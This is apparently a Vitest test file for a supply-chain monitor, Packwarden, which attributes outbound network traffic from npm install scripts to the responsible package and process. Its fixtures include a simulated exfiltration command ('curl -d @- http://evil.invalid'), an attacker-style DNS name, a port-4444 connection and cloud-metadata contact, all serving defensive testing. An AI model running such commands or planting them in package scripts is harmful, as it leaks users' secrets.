import { describe, expect, it } from 'vitest';
import { buildReport } from '../../../../src/report/build.js';
import { Contacts } from '../../../../src/report/evidence/egress/contacts.js';
import { reportSchema } from '../../../../src/report/report.js';
import { alertAt, evidence, folded, PROJECT, pkg, REFUSED, scriptsOf, treeOf } from '../../evidence.js';

describe('egress is attributed to the process that asked', () => {
  const packages = [pkg('.', ['a']), pkg('node_modules/a', [], ['postinstall'])];
  const tree = treeOf([...scriptsOf('a'), [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js']]);
  const asked = (rule: string, fields: Record<string, string>) => {
    const contacts = new Contacts();
    contacts.add(alertAt(3, rule, { 'proc.pid': '20', ...fields }, 'DEBUG'));
    return contacts;
  };

  it.each([
    [
      'a DNS question, as Falco renders its bytes',
      'exfil.attacker.invalid',
      'E............exfil.attacker.invalid.....',
      'a',
    ],
    ['a DNS question of another case', 'x.invalid', 'E............X.InvaliD.....', 'a'],
    [
      'a long label, whose length byte is printable',
      `${'d'.repeat(40)}.invalid`,
      `E............(${'d'.repeat(40)}.invalid.`,
      'a',
    ],
    ['another name', 'y.invalid', 'E............x.invalid.....', undefined],
    ['a name that only ends alike', 'x.invalid', 'E............max.invalid.....', undefined],
  ])('%s', (_title, host, data, name) => {
    const contacts = asked('Packwarden name lookup', { 'evt.arg.data': data });
    const report = buildReport(evidence({ packages, tree, contacts, egress: [{ ...REFUSED, host }] }));
    expect(report.findings[0]?.package?.name).toBe(name);
    expect(report.egress[0]?.package?.name).toBe(name);
  });

  it.each([
    [40_000, 'a'],
    [40_001, undefined],
  ])('a proxy request from port %i', (port, name) => {
    const contacts = asked('Packwarden proxy connection', { 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' });
    const record = { ...REFUSED, via: 'proxy', port: 443, clientPorts: [port] } as const;
    const report = buildReport(evidence({ packages, tree, contacts, egress: [record] }));
    expect(report.findings[0]?.package?.name).toBe(name);
  });
});

const packages = [
  pkg('.', ['a', 'b']),
  pkg('node_modules/a', [], ['postinstall']),
  pkg('node_modules/b', [], ['postinstall']),
];
const tree = treeOf([
  ...scriptsOf('a', 10),
  ...scriptsOf('b', 11),
  [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js'],
  [2, 30, 11, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
]);

describe('the rows of egress', () => {
  it('tell bytes, times, and the process', () => {
    const contacts = new Contacts();
    contacts.add(
      alertAt(3, 'Packwarden proxy connection', { 'proc.pid': '30', 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' }),
    );
    const row = {
      ...REFUSED,
      allowed: true,
      via: 'proxy',
      port: 443,
      clientPorts: [40_000],
      bytesSent: 7,
      bytesReceived: 9,
    } as const;
    const report = buildReport(evidence({ packages, tree, contacts, egress: [row] }));
    expect(report.egressMode).toBe('registry');
    expect(report.egress).toEqual([
      expect.objectContaining({
        bytesSent: 7,
        bytesReceived: 9,
        first: '1970-01-01T00:00:00.001Z',
        last: '1970-01-01T00:00:00.002Z',
        process: expect.objectContaining({ pid: 30, cmdline: 'curl -d @- http://evil.invalid' }),
      }),
    ]);
  });

  it("contacts with another job's gateway are direct attempts, those with its own are not", () => {
    const contacts = new Contacts();
    const contact = (port: number, peer: string, rule = 'Packwarden proxy connection') =>
      contacts.add(alertAt(port / 1000 - 37, rule, { 'proc.pid': '20', 'fd.name': `172.18.0.2:${port}->${peer}` }));
    contact(40_000, '172.18.0.1:3128');
    contact(40_001, '172.19.0.1:3128');
    contact(40_002, '172.19.0.1:3128');
    contact(40_003, '172.19.0.1:53', 'Packwarden name lookup');
    contact(40_004, '127.0.0.11:53', 'Packwarden name lookup');
    const report = buildReport(evidence({ packages, tree, contacts, gateway: '172.18.0.1' }));
    expect(report.findings).toHaveLength(1);
    expect(report.findings[0]).toMatchObject({
      rule: 'Outbound connection past the gateway',
      package: { name: 'a' },
      priority: 'WARNING',
      count: 3,
      places: [{ count: 2 }, { count: 1 }],
    });
    const rows = report.egress.map(({ host, port, via, allowed, count }) => ({ host, port, via, allowed, count }));
    expect(rows).toEqual(
      expect.arrayContaining([
        { host: '172.19.0.1', port: 3128, via: 'direct', allowed: false, count: 2 },
        { host: '172.19.0.1', port: 53, via: 'direct', allowed: false, count: 1 },
      ]),
    );
  });

  it('a direct attempt is a row, and one finding', () => {
    const to = { 'proc.pid': '20', 'fd.sip': '203.0.113.9', 'fd.sport': '4444' };
    const direct = [
      folded(alertAt(3, 'Outbound connection past the gateway', to), 2),
      folded(alertAt(5, 'Outbound connection past the gateway', { ...to, 'proc.pid': '30' })),
      folded(
        alertAt(6, 'Outbound connection past the gateway', { ...to, 'fd.sip': '169.254.169.254', 'fd.sport': '80' }),
      ),
      folded(
        alertAt(
          6,
          'Contact with the cloud metadata service',
          { ...to, 'fd.sip': '169.254.169.254', 'fd.sport': '80' },
          'CRITICAL',
        ),
      ),
    ];
    const report = buildReport(evidence({ packages, tree, alerts: direct }));
    expect(report.findings.map(({ rule, count }) => [rule, count])).toEqual([
      ['Contact with the cloud metadata service', 1],
      ['Outbound connection past the gateway', 3],
      ['Outbound connection past the gateway', 1],
    ]);
    expect(report.egress).toEqual([
      expect.objectContaining({ host: '203.0.113.9', port: 4444, via: 'direct', allowed: false, count: 3 }),
      expect.objectContaining({ host: '169.254.169.254', port: 80, via: 'direct', count: 1 }),
    ]);
    expect(report.egress[0]).toMatchObject({ package: { name: 'a' }, process: { pid: 20 } });
    expect(reportSchema.parse(report)).toEqual(report);
  });
});

it('attempts that found no row of their own make the run unwatched', () => {
  const report = buildReport(evidence({ egress: [REFUSED, { ...REFUSED, host: '(others)', count: 150 }] }));
  expect(report.verdict).toBe('incomplete');
  expect(report.incomplete).toEqual([
    {
      code: 'alerts-overflowed',
      message: 'there were 150 more attempts to reach something than a report can distinguish',
    },
  ]);
});

describe('what was sent', () => {
  const request = {
    method: 'POST',
    path: '/in?d=1',
    headers: ['host'],
    headerValues: '',
    status: 200,
    bodyBytes: 8,
    bodyKind: 'form',
    body: 'secret=1',
    tells: ['the host name'],
    count: 1,
    at: 1_795_226_323_000,
    clientPorts: [],
  } as const;
  const bare = { ...request, path: '/a', bodyBytes: 0, bodyKind: 'none', body: '', tells: [] } as const;
  const record = { ...REFUSED, via: 'proxy', port: 443, requests: [bare, request] } as const;

  it('is shown in the row, and its most significant part in the finding', () => {
    const report = buildReport(evidence({ egress: [record] }));
    expect(report.egress[0]?.requests).toHaveLength(2);
    expect(report.findings[0]?.alert.output).toContain(
      'POST /in?d=1 (answered 200, 8 bytes of form data, with the host name): secret=1',
    );
    expect(reportSchema.safeParse(report).success).toBe(true);
  });
});
